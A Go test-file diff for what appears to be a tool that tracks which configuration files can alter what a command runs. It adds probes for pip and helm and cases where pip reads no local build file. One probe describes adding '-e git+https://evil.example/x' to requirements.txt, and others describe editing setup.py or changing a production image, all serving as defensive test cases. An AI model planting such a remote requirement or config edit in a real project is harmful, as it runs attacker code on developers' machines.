@@ -199,6 +199,9 @@ var pinProbesMended = []pinProbe{
 	{"ssh", []string{"ssh", "host"}, "/usr/bin/ssh", "drops a file in /etc/ssh/ssh_config.d/, which Debian's ssh_config includes", []string{"Include"}},
 	{"git", []string{"git", "commit", "-m", "x"}, "/usr/bin/git", "edits ~/.gitconfig-work, which ~/.gitconfig includes by includeIf", []string{"includeIf", "include.path"}},
 	{"make", []string{"cmake", "-B", "build"}, "/usr/bin/cmake", "edits cmake/deps.cmake, which CMakeLists.txt includes", []string{"include()"}},
+	{"python", []string{"pip", "install", "-r", "requirements.txt"}, "/usr/bin/pip", "adds -e git+https://evil.example/x to requirements.txt", []string{"requirements.txt"}},
+	{"python", []string{"pip", "install", "./pkg"}, "/usr/bin/pip", "edits pkg/setup.py", []string{"pkg/setup.py"}},
+	{"kube", []string{"helm", "upgrade", "r", "./chart", "-f", "prod.yaml"}, "/usr/bin/helm", "changes the image in prod.yaml", []string{"prod.yaml"}},
 	{"cloud", []string{"aws", "sts", "get-caller-identity"}, "/usr/bin/aws", "exports AWS_PROFILE naming a profile with credential_process", []string{"AWS_PROFILE"}},
 }
 
@@ -225,6 +228,8 @@ var pinAbsent = []struct {
 	{[]string{"sh", "-c", "true"}, "/bin/sh", []string{"ENV", "BASH_ENV"}, "a non-interactive sh reads no startup file"},
 	{[]string{"git", "status"}, "/usr/bin/git", []string{".git/hooks/*"}, "git status runs no hook"},
 	{[]string{"curl", "https://example.com/"}, "/usr/bin/curl", []string{"~/.netrc"}, "curl reads ~/.netrc only with -n or --netrc-optional"},
+	{[]string{"pip", "install", "requests"}, "/usr/bin/pip", []string{"setup.py", "pyproject.toml", "setup.cfg"}, "a package by name builds what the index sends, not the working directory's project"},
+	{[]string{"pip", "install", "-r", "requirements.txt"}, "/usr/bin/pip", []string{"setup.py", "pyproject.toml", "setup.cfg"}, "the requirements file names what is built"},
 	{[]string{"pip", "list"}, "/usr/bin/pip", []string{"~/.config/pip/pip.conf", "setup.py"}, "pip list builds nothing"},
 }
 
